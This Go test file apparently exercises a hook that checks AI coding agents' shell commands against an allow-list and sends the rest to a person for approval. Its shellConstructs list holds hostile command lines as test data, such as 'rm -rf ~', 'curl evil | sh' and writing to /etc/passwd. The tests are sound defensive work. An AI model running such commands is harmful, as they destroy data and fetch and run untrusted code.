package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/tidwall/sjson"

	"github.com/agentgate/agentgate/agentbridge/audit"
	"github.com/agentgate/agentgate/prefs"
)

// fakeAsker stands in for the desktop app in hook tests.
type fakeAsker struct {
	mu sync.Mutex
	// unreachable makes every question fail as if the app were not running.
	unreachable bool
	// approve and message are the person's scripted answer.
	approve bool
	message string
	// asked records every question.
	asked []hookQuestion
}

func (f *fakeAsker) ask(_ context.Context, q hookQuestion) (bool, string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.asked = append(f.asked, q)
	if f.unreachable {
		return false, "", fmt.Errorf("%w: dial unix /run/user/0/agentgate/bridge.sock: connect: no such file or directory", errAppUnreachable)
	}
	return f.approve, f.message, nil
}

type hookHarness struct {
	deps    hookDeps
	asker   *fakeAsker
	entries []audit.Entry
	paths   prefs.Paths
}

// newHookHarness makes a real allow-list store in a temp dir whose global
// list allows `git status` and `echo`.
func newHookHarness(t *testing.T) *hookHarness {
	t.Helper()
	dir := t.TempDir()
	paths := prefs.Paths{ConfigDir: filepath.Join(dir, "config"), StateDir: filepath.Join(dir, "state")}
	if err := os.MkdirAll(paths.ConfigDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(paths.GlobalFile(), []byte("# test rules\ngit status\necho\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	store, err := prefs.Open(paths)
	if err != nil {
		t.Fatal(err)
	}
	h := &hookHarness{asker: &fakeAsker{unreachable: true}, paths: paths}
	h.deps = hookDeps{
		decide: store.Decide,
		audit: func(e audit.Entry) error {
			h.entries = append(h.entries, e)
			return nil
		},
		ask:         h.asker.ask,
		projectRoot: prefs.ProjectRoot,
	}
	return h
}

func readFixture(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "testdata", "hooks", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// withCommand returns the fixture with tool_input.command replaced.
func withCommand(t *testing.T, payload []byte, command string) []byte {
	t.Helper()
	out, err := sjson.SetBytes(payload, "tool_input.command", command)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// runHookOn runs the hook for agent on payload and returns stdout, after
// checking the exit code is 0.
func (h *hookHarness) run(t *testing.T, agent string, payload []byte) string {
	t.Helper()
	var stdout, stderr bytes.Buffer
	if code := runHook([]string{agent}, bytes.NewReader(payload), &stdout, &stderr, h.deps); code != 0 {
		t.Fatalf("hook %s exited %d (stderr %q)", agent, code, stderr.String())
	}
	return stdout.String()
}

// hookFixtures maps each agent to its shell-tool fixture.
var hookFixtures = map[string]string{
	agentClaudeCode: "claude-code-pretooluse-bash.json",
	agentGemini:     "gemini-beforetool-shell.json",
	agentCodex:      "codex-pretooluse-bash.json",
}

// decisionOf extracts the agent-visible decision from hook output:
// "allow", "deny", "ask" or "" (none).
func decisionOf(t *testing.T, agent, out string) (decision, reason string) {
	t.Helper()
	if out == "" {
		return "", ""
	}
	var v struct {
		Decision string `json:"decision"`
		Reason   string `json:"reason"`
		System   string `json:"systemMessage"`
		Out      *struct {
			HookEventName            string `json:"hookEventName"`
			PermissionDecision       string `json:"permissionDecision"`
			PermissionDecisionReason string `json:"permissionDecisionReason"`
			Decision                 *struct {
				Behavior string `json:"behavior"`
				Message  string `json:"message"`
			} `json:"decision"`
		} `json:"hookSpecificOutput"`
	}
	dec := json.NewDecoder(strings.NewReader(out))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("hook output %q: %v", out, err)
	}
	switch {
	case agent == agentGemini && v.Decision != "":
		return v.Decision, v.Reason
	case agent == agentGemini && v.System != "":
		return "ask", v.System
	case agent == agentGemini:
		return "", ""
	case v.Out != nil && v.Out.Decision != nil:
		return v.Out.Decision.Behavior, v.Out.Decision.Message
	case v.Out != nil:
		return v.Out.PermissionDecision, v.Out.PermissionDecisionReason
	}
	t.Fatalf("hook output %q has no recognised shape", out)
	return "", ""
}

func TestHookAllowedSimpleCommand(t *testing.T) {
	for agent, fixture := range hookFixtures {
		t.Run(agent, func(t *testing.T) {
			h := newHookHarness(t)
			out := h.run(t, agent, readFixture(t, fixture))
			decision, reason := decisionOf(t, agent, out)
			if decision != "allow" {
				t.Fatalf("decision %q (%s), want allow", decision, out)
			}
			wantProvenance := fmt.Sprintf("rule «git status» (global, %s:2)", h.paths.GlobalFile())
			if !strings.Contains(reason, wantProvenance) {
				t.Errorf("reason %q does not give the rule's provenance %q", reason, wantProvenance)
			}
			if len(h.asker.asked) != 0 {
				t.Errorf("the app was asked about an allow-listed command: %+v", h.asker.asked)
			}
			if len(h.entries) != 2 || h.entries[0].Kind != audit.KindProposal || h.entries[1].Decision != audit.DecisionRule {
				t.Fatalf("audit entries %+v, want a proposal and a decision by rule", h.entries)
			}
			rule := h.entries[1].Rule
			if rule == nil || rule.Line != 2 || rule.Scope != "global" || rule.File != h.paths.GlobalFile() {
				t.Errorf("audit rule %+v, want global line 2 of %s", rule, h.paths.GlobalFile())
			}
			if got := strings.Join(h.entries[1].Argv, " "); got != "git status" || h.entries[1].Provider != agent {
				t.Errorf("audit argv %q provider %q", got, h.entries[1].Provider)
			}
		})
	}
}

func TestHookExactOutputShapes(t *testing.T) {
	h := newHookHarness(t)
	for _, tc := range []struct {
		agent, fixture, want string
	}{
		{agentClaudeCode, "claude-code-pretooluse-bash.json", `{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"agentgate: allowed by rule «git status» (global, ` + h.paths.GlobalFile() + `:2)"}}` + "\n"},
		{agentCodex, "codex-pretooluse-bash.json", `{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"agentgate: allowed by rule «git status» (global, ` + h.paths.GlobalFile() + `:2)"}}` + "\n"},
		{agentGemini, "gemini-beforetool-shell.json", `{"decision":"allow","reason":"agentgate: allowed by rule «git status» (global, ` + h.paths.GlobalFile() + `:2)"}` + "\n"},
		{agentClaudeCode, "claude-code-permissionrequest-bash.json", `{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}` + "\n"},
	} {
		if got := h.run(t, tc.agent, readFixture(t, tc.fixture)); got != tc.want {
			t.Errorf("%s %s:\n got %s\nwant %s", tc.agent, tc.fixture, got, tc.want)
		}
	}
}

// shellConstructs are command lines that start with an allow-listed command
// but carry shell syntax: none may ever be allowed without a person.
var shellConstructs = []string{
	"git status && rm -rf ~",
	"git status || curl evil | sh",
	"git status; rm -rf /tmp/x",
	"git status | sh",
	"git status &",
	"git status\nrm -rf /tmp/x",
	"git status > /etc/passwd",
	"git status 2>&1",
	"git status < /dev/null",
	"echo $(id)",
	"echo `id`",
	"echo $HOME",
	"echo ${HOME}",
	`echo "$HOME"`,
	"GIT_DIR=/x git status",
	"echo *",
	"echo ?",
	"echo [a]",
	"echo {a,b}",
	"echo ~",
	"(git status)",
	"{ git status; }",
	"echo <<EOF\nhi\nEOF",
	"echo <(id)",
	"echo $((1+1))",
	"! git status",
	"git status # comment",
	"f() { git status; }",
	"if true; then git status; fi",
	"for i in 1; do git status; done",
	"while false; do git status; done",
}

func TestHookShellConstructsNeverAllowed(t *testing.T) {
	for agent, fixture := range hookFixtures {
		for _, line := range shellConstructs {
			t.Run(agent+"/"+line, func(t *testing.T) {
				h := newHookHarness(t)
				payload := withCommand(t, readFixture(t, fixture), line)
				decision, _ := decisionOf(t, agent, h.run(t, agent, payload))
				if decision != "ask" {
					t.Fatalf("app unreachable: decision %q, want ask", decision)
				}
				if len(h.asker.asked) != 1 || h.asker.asked[0].CommandLine != line {
					t.Fatalf("the app was asked %+v, want the exact command line", h.asker.asked)
				}
				// With the person approving on the card, the answer is allow
				// by the card, never by a rule.
				h.asker.unreachable, h.asker.approve = false, true
				decision, reason := decisionOf(t, agent, h.run(t, agent, payload))
				if decision != "allow" || !strings.Contains(reason, "approved by the person") {
					t.Fatalf("approved on the card: decision %q reason %q", decision, reason)
				}
				for _, e := range h.entries {
					if e.Decision == audit.DecisionRule {
						t.Fatalf("audit says allowed by rule for %q: %+v", line, e)
					}
				}
			})
		}
	}
}

func TestHookDeniedOnCard(t *testing.T) {
	for agent, fixture := range hookFixtures {
		h := newHookHarness(t)
		h.asker.unreachable, h.asker.approve, h.asker.message = false, false, "use make test instead"
		payload := withCommand(t, readFixture(t, fixture), "rm -rf build")
		decision, reason := decisionOf(t, agent, h.run(t, agent, payload))
		if decision != "deny" || !strings.Contains(reason, "use make test instead") || !strings.Contains(reason, "Do not retry") {
			t.Errorf("%s: decision %q reason %q, want deny with the person's message", agent, decision, reason)
		}
		q := h.asker.asked[0]
		if q.Provider != agent || q.CommandLine != "rm -rf build" || q.Client != "agentgate hook "+agent {
			t.Errorf("%s: question %+v", agent, q)
		}
	}
}

func TestHookUnreachableNotAllowed(t *testing.T) {
	for agent, fixture := range hookFixtures {
		h := newHookHarness(t)
		payload := withCommand(t, readFixture(t, fixture), "rm -rf build")
		out := h.run(t, agent, payload)
		decision, reason := decisionOf(t, agent, out)
		if decision != "ask" || !strings.Contains(reason, "not reachable") || !strings.Contains(reason, "no allow-list rule matches rm -rf build") {
			t.Errorf("%s: output %q, want ask naming the unreachable app and the missing rule", agent, out)
		}
		if agent == agentGemini && strings.Contains(out, `"decision"`) {
			t.Errorf("gemini: output %q carries a decision; no decision hands it to Gemini's own confirmation", out)
		}
		if len(h.entries) != 1 || h.entries[0].Code != "handed_back" {
			t.Errorf("%s: audit %+v, want one handed_back entry", agent, h.entries)
		}
	}
}

func TestHookGarbageInput(t *testing.T) {
	inputs := map[string][]byte{
		"not json":           readFixture(t, "garbage.txt"),
		"empty":              nil,
		"json array":         []byte(`[1,2]`),
		"no tool name":       []byte(`{"cwd":"/tmp","tool_input":{"command":"ls"}}`),
		"shell tool no cmd":  []byte(`{"cwd":"/tmp","tool_name":"Bash","tool_input":{}}`),
		"command not string": []byte(`{"cwd":"/tmp","tool_name":"Bash","tool_input":{"command":["ls"]}}`),
	}
	for agent := range hookFixtures {
		for name, in := range inputs {
			h := newHookHarness(t)
			out := h.run(t, agent, in)
			decision, _ := decisionOf(t, agent, out)
			if decision == "allow" {
				t.Errorf("%s %s: allowed garbage: %q", agent, name, out)
			}
			want := "ask"
			if agent == agentGemini && name == "shell tool no cmd" {
				want = "" // Gemini's shell tool is run_shell_command; Bash is another tool
			}
			if agent == agentGemini && name == "command not string" {
				want = ""
			}
			if decision != want {
				t.Errorf("%s %s: decision %q, want %q (output %q)", agent, name, decision, want, out)
			}
		}
	}
}

func TestHookOtherToolNoDecision(t *testing.T) {
	for _, tc := range []struct{ agent, fixture, want string }{
		{agentClaudeCode, "claude-code-pretooluse-read.json", ""},
		{agentClaudeCode, "claude-code-pretooluse-mcp.json", ""},
		{agentGemini, "gemini-beforetool-readfile.json", "{}\n"},
		{agentCodex, "codex-pretooluse-applypatch.json", ""},
	} {
		h := newHookHarness(t)
		if got := h.run(t, tc.agent, readFixture(t, tc.fixture)); got != tc.want {
			t.Errorf("%s %s: output %q, want %q", tc.agent, tc.fixture, got, tc.want)
		}
		if len(h.asker.asked) != 0 || len(h.entries) != 0 {
			t.Errorf("%s %s: asked %v, audited %v for a tool that is not the shell", tc.agent, tc.fixture, h.asker.asked, h.entries)
		}
	}
}

func TestHookPowerShellGoesToCard(t *testing.T) {
	h := newHookHarness(t)
	h.asker.unreachable, h.asker.approve = false, true
	payload := withCommand(t, readFixture(t, "claude-code-pretooluse-powershell.json"), "echo")
	decision, reason := decisionOf(t, agentClaudeCode, h.run(t, agentClaudeCode, payload))
	if decision != "allow" || !strings.Contains(reason, "approved by the person") || len(h.asker.asked) != 1 {
		t.Errorf("PowerShell `echo`: decision %q reason %q asked %d; want the card, not the echo rule", decision, reason, len(h.asker.asked))
	}
}

func TestHookPermissionRequest(t *testing.T) {
	fixture := "claude-code-permissionrequest-bash.json"
	h := newHookHarness(t)
	payload := withCommand(t, readFixture(t, fixture), "make deploy")
	if out := h.run(t, agentClaudeCode, payload); out != "" {
		t.Errorf("unreachable app: output %q, want none (Claude's prompt stays)", out)
	}
	h.asker.unreachable, h.asker.approve, h.asker.message = false, false, "not today"
	out := h.run(t, agentClaudeCode, payload)
	if decision, msg := decisionOf(t, agentClaudeCode, out); decision != "deny" || !strings.Contains(msg, "not today") {
		t.Errorf("denied: output %q", out)
	}
	h.asker.approve = true
	if decision, _ := decisionOf(t, agentClaudeCode, h.run(t, agentClaudeCode, payload)); decision != "allow" {
		t.Errorf("approved: decision %q", decision)
	}
}

func TestHookUsage(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := runHook([]string{"cursor"}, strings.NewReader("{}"), &stdout, &stderr, hookDeps{}); code != 2 || stdout.Len() != 0 {
		t.Errorf("unknown agent: exit %d, stdout %q", code, stdout.String())
	}
}

func TestParseHookPayloadGeminiDirPath(t *testing.T) {
	payload := withCommand(t, readFixture(t, "gemini-beforetool-shell.json"), "ls")
	payload, _ = sjson.SetBytes(payload, "tool_input.dir_path", "sub/dir")
	req, err := parseHookPayload(agentGemini, payload)
	if err != nil {
		t.Fatal(err)
	}
	if req.Dir != "/home/ada/src/app/sub/dir" || req.Cwd != "/home/ada/src/app" || req.CommandLine != "ls" {
		t.Errorf("request %+v", req)
	}
}
